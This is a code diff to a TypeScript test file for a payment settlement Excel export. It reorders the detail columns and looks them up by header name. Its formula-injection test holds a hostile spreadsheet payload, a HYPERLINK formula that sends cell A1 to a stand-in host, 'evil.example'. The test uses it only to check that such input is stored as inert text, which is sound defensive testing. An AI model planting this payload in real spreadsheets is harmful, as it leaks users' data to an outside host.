@@ -141,23 +141,23 @@ const exceptionsOf = (r: SettlementRow): ReconciliationException[] =>
 /** The Settlements sheet, column by column: its header and what each record's cell must hold. */
 const DETAIL: [string, (r: SettlementRow) => Cell][] = [
   ['Date', (r) => date(r.date)],
-  ['Gateway', (r) => text(r.pg)],
-  ['PG transaction id', (r) => text(r.pg_transaction_id)],
-  ['Settled at (IST)', (r) => datetime(r.settlement_date)],
   ['Order id', (r) => text(r.order_id)],
-  ['Ordered at (IST)', (r) => datetime(r.order_date)],
+  ['PG transaction id', (r) => text(r.pg_transaction_id)],
   ['UTR', (r) => text(r.utr)],
-  ['Order status', (r) => text(r.order_status)],
-  ['PG status', (r) => text(r.pg_status)],
-  ['Payment mode', (r) => text(r.payment_mode)],
   ['Amount (INR)', (r) => money(r.amount)],
   ['Service fee (INR)', (r) => money(r.mer_service_fee)],
   ['Service tax (INR)', (r) => money(r.mer_service_tax)],
+  ['Subvention (INR)', (r) => money(r.merchant_subvention_amount)],
+  ['Settled amount (INR)', (r) => money(r.settled_amount)],
+  ['Gateway', (r) => text(r.pg)],
+  ['Settled at (IST)', (r) => datetime(r.settlement_date)],
+  ['Ordered at (IST)', (r) => datetime(r.order_date)],
+  ['Order status', (r) => text(r.order_status)],
+  ['PG status', (r) => text(r.pg_status)],
+  ['Payment mode', (r) => text(r.payment_mode)],
   ['CGST (INR)', (r) => money(r.cgst)],
   ['SGST (INR)', (r) => money(r.sgst)],
   ['IGST (INR)', (r) => money(r.igst)],
-  ['Subvention (INR)', (r) => money(r.merchant_subvention_amount)],
-  ['Settled amount (INR)', (r) => money(r.settled_amount)],
   ['Dispute id', (r) => text(r.dispute_id)],
   ['Description', (r) => text(r.description)],
   [
@@ -173,6 +173,8 @@ const DETAIL: [string, (r: SettlementRow) => Cell][] = [
   ['Other fields (JSON)', (r) => text(r.extra)],
 ];
 const DETAIL_HEADER = DETAIL.map(([h]) => h);
+/** A detail column's number (1-based, as exceljs counts them). */
+const detailColumn = (header: string) => DETAIL_HEADER.indexOf(header) + 1;
 
 /** The Summary's money columns and the cache column each adds up. */
 const SUMMARY_MONEY: [string, keyof SettlementRow][] = [
@@ -635,21 +637,19 @@ describe('settlement workbook', () => {
     await runExport(settlementJob(file, { pg: 'crafted' }));
     const sheet = (await readBook(file)).getWorksheet('Settlements')!;
     const row = (txn: string) => {
-      for (let r = 2; r <= sheet.rowCount; r++) if (sheet.getRow(r).getCell(3).value === txn) return sheet.getRow(r);
+      for (let r = 2; r <= sheet.rowCount; r++) {
+        if (sheet.getRow(r).getCell(detailColumn('PG transaction id')).value === txn) return sheet.getRow(r);
+      }
       throw new Error(`no row for ${txn}`);
     };
     const zeros = row(LEADING_ZEROS);
-    expect([3, 5, 7, 19].map((c) => zeros.getCell(c).value)).toEqual([
-      LEADING_ZEROS,
-      '0042',
-      '000000000001234567890',
-      '00991',
-    ]);
+    const ids = ['PG transaction id', 'Order id', 'UTR', 'Dispute id'].map(detailColumn);
+    expect(ids.map((c) => zeros.getCell(c).value)).toEqual([LEADING_ZEROS, '0042', '000000000001234567890', '00991']);
     const long = row('9007199254740993');
-    expect([5, 7].map((c) => long.getCell(c).value)).toEqual([LONG_DIGITS, '1.5E+3']);
-    expect(row('txn_crafted_3').getCell(11).value).toBe(0.05);
-    expect(row('txn_crafted_4').getCell(11).value).toBe(-2500.5);
-    expect(row('txn_crafted_3').getCell(23).value).toBe('{"bank_reference":"000777"}');
+    expect(['Order id', 'UTR'].map((h) => long.getCell(detailColumn(h)).value)).toEqual([LONG_DIGITS, '1.5E+3']);
+    expect(row('txn_crafted_3').getCell(detailColumn('Amount (INR)')).value).toBe(0.05);
+    expect(row('txn_crafted_4').getCell(detailColumn('Amount (INR)')).value).toBe(-2500.5);
+    expect(row('txn_crafted_3').getCell(detailColumn('Other fields (JSON)')).value).toBe('{"bank_reference":"000777"}');
   });
 
   it.each(FILTER_CASES.slice(1))('narrows detail, Summary and Exceptions alike: $name', async (c) => {
@@ -688,10 +688,11 @@ describe('settlement workbook', () => {
       }
       // The records' keys (date, gateway, transaction, settlement time: the sandbox settles some transactions
       // twice a day) across the sheets against SQL: the same set, each once.
+      const key = ['Date', 'Gateway', 'PG transaction id', 'Settled at (IST)'].map((h) => detailColumn(h) - 1);
       const keys = detail.flatMap((s) =>
-        rowsOf(s, 4)
+        rowsOf(s, DETAIL_HEADER.length)
           .slice(1)
-          .map((r) => r.join('|')),
+          .map((r) => key.map((c) => r[c]).join('|')),
       );
       expect(new Set(keys).size).toBe(keys.length);
       const expected = sql
@@ -777,7 +778,9 @@ describe('formula injection', () => {
     expect(hostile.filter((h) => h.startsWith('Summary!'))).toHaveLength(1);
 
     // exceljs read each text back exactly, the leading tab and carriage return included.
-    const orderIds = rowsOf(book.getWorksheet('Settlements')!, 5).map((r) => r[4]);
+    const orderIds = rowsOf(book.getWorksheet('Settlements')!, DETAIL_HEADER.length).map(
+      (r) => r[detailColumn('Order id') - 1],
+    );
     for (const p of FORMULA_PREFIXES) {
       expect(orderIds).toContain(text(`${p}HYPERLINK("http://evil.example/?leak="&A1,"Click")`));
     }
